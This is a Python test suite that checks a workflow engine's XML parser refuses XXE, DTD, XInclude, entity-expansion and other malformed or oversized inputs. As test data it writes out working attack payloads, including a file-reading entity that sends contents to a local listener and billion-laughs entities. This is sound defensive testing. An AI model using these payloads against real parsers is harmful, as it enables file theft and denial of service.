"""XML hardening (T-X1, T-X2, T-X3): entity, DTD, size and shape attacks are refused fast and leak nothing."""

from __future__ import annotations

import re
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from lxml import etree

from engine.errors import InvalidDiagram, Problem
from engine.workflow import xmlsafe

REPO = Path(__file__).resolve().parents[2]
SECRET = "CANARY-SECRET-7f3a9c"
DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


@pytest.fixture()
def canary(tmp_path: Path) -> Path:
    path = tmp_path / "canary.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture()
def listener() -> Iterator[tuple[int, Callable[[], int]]]:
    """A loopback TCP listener; the callable counts connections it received."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)

    def hits() -> int:
        count = 0
        while True:
            try:
                conn, _ = server.accept()
            except BlockingIOError:
                return count
            conn.close()
            count += 1

    try:
        yield server.getsockname()[1], hits
    finally:
        server.close()


def body(simple_text: str, documentation: str = "cite 7.1") -> str:
    """simple.bpmn without its XML declaration, with new documentation text for the first task."""
    return simple_text.split("\n", 1)[1].replace("cite 7.1", documentation)


def refuse(compile_variant: Callable[..., dict], raw: bytes, *codes: str) -> list[Problem]:
    started = time.perf_counter()
    with pytest.raises(InvalidDiagram) as info:
        compile_variant(raw=raw)
    assert time.perf_counter() - started < 2.0
    problems = info.value.problems
    assert problems and {p.code for p in problems} <= set(codes), problems
    assert SECRET not in str(info.value)
    assert all(p.file == "simple.bpmn" for p in problems)
    return problems


ENTITY_ATTACKS = {
    "internal_entity": ('<!DOCTYPE d [<!ENTITY e "benign">]>', "&e;"),
    "xxe_file_text": ('<!DOCTYPE d [<!ENTITY e SYSTEM "file://{canary}">]>', "&e;"),
    "parameter_entity": ('<!DOCTYPE d [<!ENTITY % p SYSTEM "file://{canary}"> %p;]>', "x"),
    "parameter_entity_exfil": (
        '<!DOCTYPE d [<!ENTITY % f SYSTEM "file://{canary}">'
        '<!ENTITY % w "<!ENTITY &#x25; s SYSTEM \'http://127.0.0.1:{port}/?%f;\'>"> %w; %s;]>', "x"),
    "external_dtd_http": ('<!DOCTYPE d SYSTEM "http://127.0.0.1:{port}/evil.dtd">', "x"),
    "external_dtd_public": ('<!DOCTYPE d PUBLIC "-//X//Y" "http://127.0.0.1:{port}/evil.dtd">', "x"),
    "xxe_http": ('<!DOCTYPE d [<!ENTITY e SYSTEM "http://127.0.0.1:{port}/leak">]>', "&e;"),
    "billion_laughs": (
        "<!DOCTYPE d [<!ENTITY l0 \"lol\">"
        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>", "&l9;"),
    "quadratic_blowup": ('<!DOCTYPE d [<!ENTITY a "' + "a" * 100_000 + '">]>', "&a;" * 5000),
    "lowercase_doctype": ('<!doctype d [<!entity e "x">]>', "&e;"),
}


@pytest.mark.parametrize("attack", ENTITY_ATTACKS.values(), ids=ENTITY_ATTACKS.keys())
def test_a_doctype_or_entity_attack_is_refused_naming_the_file(
        compile_variant: Callable[..., dict], simple_text: str, canary: Path,
        listener: tuple[int, Callable[[], int]], attack: tuple[str, str]) -> None:
    port, hits = listener
    doctype, documentation = attack
    raw = (DECL + doctype.format(canary=canary, port=port) + "\n" + body(simple_text, documentation)).encode()
    refuse(compile_variant, raw, "doctype_not_allowed", "too_large")
    assert hits() == 0


def test_an_xxe_in_an_attribute_is_refused(compile_variant: Callable[..., dict], simple_text: str,
                                           canary: Path) -> None:
    doctype = f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{canary}">]>\n'
    raw = (DECL + doctype + body(simple_text).replace('name="Ask for a decision"', 'name="&e;"')).encode()
    refuse(compile_variant, raw, "doctype_not_allowed")


def test_a_quadratic_blowup_larger_than_the_file_limit_is_refused_before_parsing(
        compile_variant: Callable[..., dict], simple_text: str) -> None:
    doctype = '<!DOCTYPE d [<!ENTITY a "' + "a" * 100_000 + '">]>\n'
    raw = (DECL + doctype + body(simple_text, "&a;" * 700_000)).encode()
    assert len(raw) > xmlsafe.MAX_FILE_BYTES
    refuse(compile_variant, raw, "too_large")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_utf16_or_utf32_document_with_a_doctype_is_refused(compile_variant: Callable[..., dict],
                                                            simple_text: str, canary: Path, encoding: str) -> None:
    text = (f'<?xml version="1.0" encoding="{encoding.upper()}"?>\n'
            f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{canary}">]>\n' + body(simple_text, "&e;"))
    refuse(compile_variant, text.encode(encoding), "doctype_not_allowed", "malformed_xml")


def test_a_utf7_disguised_doctype_is_refused(compile_variant: Callable[..., dict], simple_text: str,
                                             canary: Path) -> None:
    text = ('<?xml version="1.0" encoding="UTF-7"?>\n'
            f"+ADw-!DOCTYPE d +AFs-+ADw-!ENTITY e SYSTEM +ACI-file://{canary}+ACI-+AD4-+AF0-+AD4-\n"
            + body(simple_text, "&e;"))
    refuse(compile_variant, text.encode(), "doctype_not_allowed", "malformed_xml")


def test_a_body_over_the_size_limit_is_refused_as_too_large(compile_variant: Callable[..., dict],
                                                            simple_text: str) -> None:
    raw = (DECL + body(simple_text, "x" * (3 * 1024 * 1024))).encode()
    refuse(compile_variant, raw, "too_large")


def test_25000_elements_are_refused_as_too_many_elements(compile_variant: Callable[..., dict],
                                                         simple_text: str) -> None:
    objects = "".join(f'<bpmn:dataObject id="o{i}"/>' for i in range(25_000))
    raw = (DECL + body(simple_text).replace("</bpmn:process>", objects + "</bpmn:process>")).encode()
    assert len(raw) < xmlsafe.MAX_FILE_BYTES
    refuse(compile_variant, raw, "too_many_elements")


def test_very_deep_nesting_is_refused(compile_variant: Callable[..., dict], simple_text: str) -> None:
    raw = (DECL + body(simple_text, "<a>" * 100_000 + "</a>" * 100_000)).encode()
    refuse(compile_variant, raw, "malformed_xml", "too_large")


@pytest.mark.parametrize("pi", [
    '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>',
    "<?php system('id'); ?>",
], ids=["xslt_stylesheet", "php"])
def test_a_processing_instruction_before_the_root_is_refused(compile_variant: Callable[..., dict],
                                                             simple_text: str, pi: str) -> None:
    refuse(compile_variant, (DECL + pi + "\n" + body(simple_text)).encode(), "processing_instruction")


def test_a_processing_instruction_inside_the_document_is_refused(compile_variant: Callable[..., dict],
                                                                 simple_text: str) -> None:
    refuse(compile_variant, (DECL + body(simple_text, "<?evil x?>")).encode(), "processing_instruction")


def _xinclude(simple_text: str, canary: Path) -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}" parse="text"/>'
    return (DECL + body(simple_text, include)).encode()


def test_an_xinclude_is_never_resolved(compile_variant: Callable[..., dict], simple_text: str,
                                       canary: Path) -> None:
    try:
        compiled = compile_variant(raw=_xinclude(simple_text, canary))
    except InvalidDiagram as exc:
        assert SECRET not in str(exc)
        return
    process = compiled["simple_case"]
    assert SECRET not in (process.spec.task_specs["ask"].documentation or "")
    assert all(SECRET not in text for text in process.files.values())


def test_an_xinclude_is_refused(compile_variant: Callable[..., dict], simple_text: str, canary: Path) -> None:
    refuse(compile_variant, _xinclude(simple_text, canary), "xinclude_not_allowed", "invalid_bpmn", "not_bpmn")


@pytest.mark.parametrize("junk", [bytes(range(1, 256)) * 20, b"\x89PNG\r\n\x1a\n" + bytes(range(1, 200)),
                                  b"PK\x03\x04" + b"\x01" * 500], ids=["bytes", "png", "zip"])
def test_binary_junk_is_refused_as_malformed(compile_variant: Callable[..., dict], junk: bytes) -> None:
    refuse(compile_variant, junk, "malformed_xml")


def test_binary_junk_with_nul_bytes_is_refused(compile_variant: Callable[..., dict]) -> None:
    refuse(compile_variant, bytes(range(256)) * 10, "malformed_xml", "doctype_not_allowed")


def test_a_script_element_in_documentation_is_accepted_as_text(compile_variant: Callable[..., dict],
                                                               simple_text: str) -> None:
    raw = (DECL + body(simple_text, "<![CDATA[<script>alert(1)</script>]]> &lt;script&gt;x&lt;/script&gt;")).encode()
    compiled = compile_variant(raw=raw)
    documentation = compiled["simple_case"].spec.task_specs["ask"].documentation
    assert documentation == "<script>alert(1)</script> <script>x</script>"


# --- T-X2: the parser factory and the lxml version -------------------------------------------------------

def test_lxml_is_at_least_version_5() -> None:
    assert etree.LXML_VERSION >= (5, 0)


def test_the_hardened_parser_is_built_with_safe_options(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: dict[str, object] = {}

    def record(**kwargs: object) -> object:
        seen.update(kwargs)
        return object()

    monkeypatch.setattr(xmlsafe.etree, "XMLParser", record)
    xmlsafe.hardened_parser()
    assert seen["resolve_entities"] is False
    assert seen["no_network"] is True
    assert seen["load_dtd"] is False
    assert seen["huge_tree"] is False
    assert seen.get("dtd_validation", False) is False


def test_the_hardened_parser_does_not_expand_entities_or_read_files(canary: Path) -> None:
    doc = f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{canary}"><!ENTITY i "inner">]><d>&e;&i;</d>'.encode()
    try:
        root = etree.fromstring(doc, parser=xmlsafe.hardened_parser())
    except etree.XMLSyntaxError as exc:
        assert SECRET not in str(exc)
        return
    assert SECRET not in etree.tostring(root, encoding="unicode")
    assert "inner" not in (root.text or "")


def test_the_hardened_parser_refuses_huge_depth() -> None:
    with pytest.raises(etree.XMLSyntaxError):
        etree.fromstring(b"<a>" * 100_000 + b"</a>" * 100_000, parser=xmlsafe.hardened_parser())


# --- T-X3: no other XML entry point in the code base -------------------------------------------------------

FORBIDDEN_CALLS = re.compile(r"add_bpmn_str\(|add_bpmn_io\(|add_bpmn_files\(|etree\.parse\(|etree\.fromstring\(")


def test_no_code_outside_the_hardened_parser_module_parses_xml_itself() -> None:
    hits = []
    for target in ("engine", "web", "run.py"):
        path = REPO / target
        if not path.exists():
            continue
        files = [path] if path.is_file() else sorted(path.rglob("*.py"))
        for file in files:
            if file == REPO / "engine" / "workflow" / "xmlsafe.py":
                continue
            for number, line in enumerate(file.read_text(encoding="utf-8").splitlines(), 1):
                if FORBIDDEN_CALLS.search(line):
                    hits.append(f"{file.relative_to(REPO)}:{number}: {line.strip()}")
    assert hits == []
